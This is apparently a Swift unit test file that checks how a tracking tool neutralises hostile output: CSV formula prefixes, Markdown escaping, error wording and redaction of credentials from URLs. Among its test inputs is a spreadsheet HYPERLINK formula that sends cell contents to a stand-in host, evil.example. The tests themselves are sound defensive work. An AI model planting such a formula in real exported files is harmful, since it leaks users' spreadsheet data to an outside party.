import Foundation
import TestSupport
import Testing

@testable import TrackCore
@testable import Tracker

/// The rules that keep hostile data from becoming a formula, Markdown structure or a misleading
/// message, checked one by one.
@Suite("Output neutralisation and messages (library)")
struct HostileOutputUnitTests {
    @Test(
        "CSV cells starting =, +, -, @, tab or CR get a leading quote; plain signed numbers and other text stay as they are",
        arguments: [
            ("=1+1", "'=1+1"), (#"=HYPERLINK("http://evil.example/?"&A1,"Click")"#, #"'=HYPERLINK("http://evil.example/?"&A1,"Click")"#),
            ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
            ("-3.5", "-3.5"), ("+1e3", "+1e3"), ("-0.25", "-0.25"), ("a=b", "a=b"), ("", ""), ("v3", "v3"),
        ])
    func csvNeutralised(field: String, expected: String) {
        #expect(CSV.neutralised(field) == expected)
    }

    @Test("a CSV line quotes the neutralised field as RFC 4180 says")
    func csvLine() {
        #expect(CSV.line(["=1,2", "ok"]) == #""'=1,2",ok"#)
    }

    @Test("a Markdown text that would start a list, a numbered list, a rule, a setext line or code stays one line of text")
    func markdownText() {
        let renderer = MarkdownReportRenderer(chartFolder: nil)
        #expect(renderer.text("- x") == "\\- x")
        #expect(renderer.text("+ x") == "\\+ x")
        #expect(renderer.text("1. x") == "1\\. x")
        #expect(renderer.text("12) x") == "12\\) x")
        #expect(renderer.text("---") == "\\---")
        #expect(renderer.text("===") == "\\===")
        #expect(renderer.text("    code") == "code")
        #expect(renderer.text("a | b") == "a | b")
        #expect(renderer.text("2025 was good") == "2025 was good")
    }

    @Test("a Markdown table escapes a pipe once")
    func markdownPipes() {
        var table = TextTable(columns: [.init("A")])
        table.append([.init(MarkdownReportRenderer(chartFolder: nil).text("a | b"))])
        #expect(table.renderMarkdown().contains("| a \\| b |"))
    }

    @Test("a history index that cannot be written is called read-only, with what to do, not 'may be damaged'")
    func readOnlyIndex() {
        let readOnly = HistoryStore.failure(opening: "/w/.track/history.sqlite", CocoaError(.fileWriteNoPermission), readOnly: true)
        #expect(readOnly.description.contains("it or its folder is read-only; make it writable"))
        #expect(!readOnly.description.contains("damaged"))
        let damaged = HistoryStore.failure(opening: "/w/.track/history.sqlite", CocoaError(.fileReadCorruptFile), readOnly: false)
        #expect(damaged.description.contains("It may be damaged"))
    }

    @Test("a source line shown under an error never shows a URL's credentials")
    func sourceLineCredentials() {
        #expect(
            DiagnosticRenderer.withoutCredentials("  url: https://x-access-token:ghp_123@github.com/a.csv # x")
                == "  url: https://…@github.com/a.csv # x")
        #expect(DiagnosticRenderer.withoutCredentials("see a@b.c and https://example.com/x") == "see a@b.c and https://example.com/x")
    }

    @Test("diagnostics of one kind fold after twenty; kinds differ by message shape, not by numbers or quoted text")
    func folding() {
        let many = (1...50).map { Diagnostic("row \($0): '\($0)x' is not a number", file: "t.csv") }
        let other = Diagnostic("the file is empty", file: "t.csv")
        let folded = Diagnostic.folded(many + [other])
        #expect(folded.count == 22)
        #expect(folded[20].message == "and 30 more like it")
        #expect(folded.last == other)
        #expect(Diagnostic.grouped(1_229_998) == "1,229,998")
    }
}
